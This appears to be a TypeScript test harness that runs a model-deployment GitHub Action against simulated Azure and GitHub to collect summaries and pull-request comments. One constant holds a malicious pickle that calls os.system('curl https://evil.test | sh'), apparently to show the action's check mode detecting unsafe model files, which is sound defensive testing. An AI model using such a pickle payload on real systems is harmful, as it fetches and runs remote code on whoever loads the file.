/** What is worth a picture, each from runs of the shipped action against the simulated Azure and GitHub. */
import { join } from 'node:path'
import { pickled } from '../models/pickled.ts'
import { pythonWith, runPython, training } from '../python.ts'
import type { ActionRun } from '../runner.ts'
import { type Story, story } from '../scenarios/story.ts'

/** A text as GitHub gets it, and where it shows it. */
export interface Picture {
  readonly name: string
  readonly shown: 'summary' | 'comment'
  readonly markdown: string
}

/** Names for what a reader cares about; a model has columns, and people give their requests names. */
const smoke = [
  '- name: a benign tumour',
  '  request: {data: [[12.3, 14.9, 78.9, 464.1]]}',
  '  expect: {status: 200}',
  '- name: a malignant tumour',
  '  request: {data: [[20.6, 29.3, 140.1, 1265.0]]}',
  '  expect: {status: 200}',
].join('\n')

/** Runs every story and collects what it shows. */
export async function collectPictures(): Promise<readonly Picture[]> {
  return [...(await rollouts()), ...(await failedContainer())]
}

async function rollouts(): Promise<readonly Picture[]> {
  // A hundredth of the time that Azure takes.
  const it = await story({ timeScale: 0.01 })
  try {
    succeeded(await it.deploy({ 'smoke-request': smoke }))
    it.write('model.joblib', pickled('a better model'))
    const inputs = { strategy: 'canary', 'traffic-steps': '[10, 100]', 'smoke-request': smoke }
    const plan = await commentOf(it, 1, { ...inputs, mode: 'plan' })
    const canary = succeeded(await it.deploy({ ...inputs, 'bake-time': '6s' }))
    it.write('model.pkl', hostile)
    const check = await commentOf(it, 2, {
      'model-path': 'model.pkl',
      'smoke-request': smoke,
      mode: 'check',
    })
    return [
      { name: 'canary', shown: 'summary', markdown: canary.summary },
      { name: 'plan', shown: 'comment', markdown: plan },
      { name: 'check', shown: 'comment', markdown: check },
    ]
  } finally {
    await it.end()
  }
}

/** `os.system('…')`, as a pickle of protocol 0 that has a class of one's own before it. */
const hostile = Buffer.from(
  "cfraud.features\nEncoder\n(tR0cos\nsystem\n(S'curl https://evil.test | sh'\ntR.",
)

async function failedContainer(): Promise<readonly Picture[]> {
  const it = await story({ scoring: 'python', timeScale: 0.01 })
  try {
    const python = await pythonWith(training.requirements)
    const script = join(import.meta.dirname, '../models/breast_cancer.py')
    await runPython(python, script, join(it.checkout, 'model.joblib'))
    succeeded(await it.deploy({ 'smoke-request': smoke }))
    it.write(
      'service/score.py',
      [
        'import os',
        'import joblib',
        '',
        '',
        'def init():',
        '    global model',
        '    folder = os.environ["AZUREML_MODEL_DIR"]',
        '    model = joblib.load(os.path.join(folder, "classifier.joblib"))',
        '',
        '',
        'def run(data):',
        '    return model.predict(data).tolist()',
      ].join('\n'),
    )
    const packages = ['azureml-inference-server-http==1.5.1', ...training.requirements]
    it.write(
      'conda.yml',
      [
        'dependencies:',
        '  - python=3.12',
        '  - pip:',
        ...packages.map((line) => `      - ${line}`),
      ].join('\n'),
    )
    const { summary } = await it.deploy({
      'entry-script': 'service/score.py',
      'conda-file': 'conda.yml',
      'smoke-request': smoke,
    })
    return [{ name: 'failed-container', shown: 'summary', markdown: summary }]
  } finally {
    await it.end()
  }
}

function succeeded(run: ActionRun): ActionRun {
  if (run.exitCode !== 0) throw new Error(run.log)
  return run
}

/** The comment that a run leaves on a pull request. */
async function commentOf(it: Story, number: number, inputs: Record<string, string>) {
  const { github } = it.simulator.world
  const repository = { full_name: `${github.owner}/${github.repository}` }
  const pull_request = {
    number,
    head: { sha: github.sha, repo: repository },
    base: { repo: repository },
  }
  it.write(`event-${number}.json`, JSON.stringify({ action: 'synchronize', number, pull_request }))
  const run = await it.deploy(
    { ...inputs, 'github-token': it.simulator.env['GITHUB_TOKEN'] ?? '' },
    {
      GITHUB_EVENT_NAME: 'pull_request',
      GITHUB_EVENT_PATH: join(it.checkout, `event-${number}.json`),
    },
  )
  const comment = github.comments.find(({ issue }) => issue === number)
  if (!comment) throw new Error(run.log)
  return comment.body
}
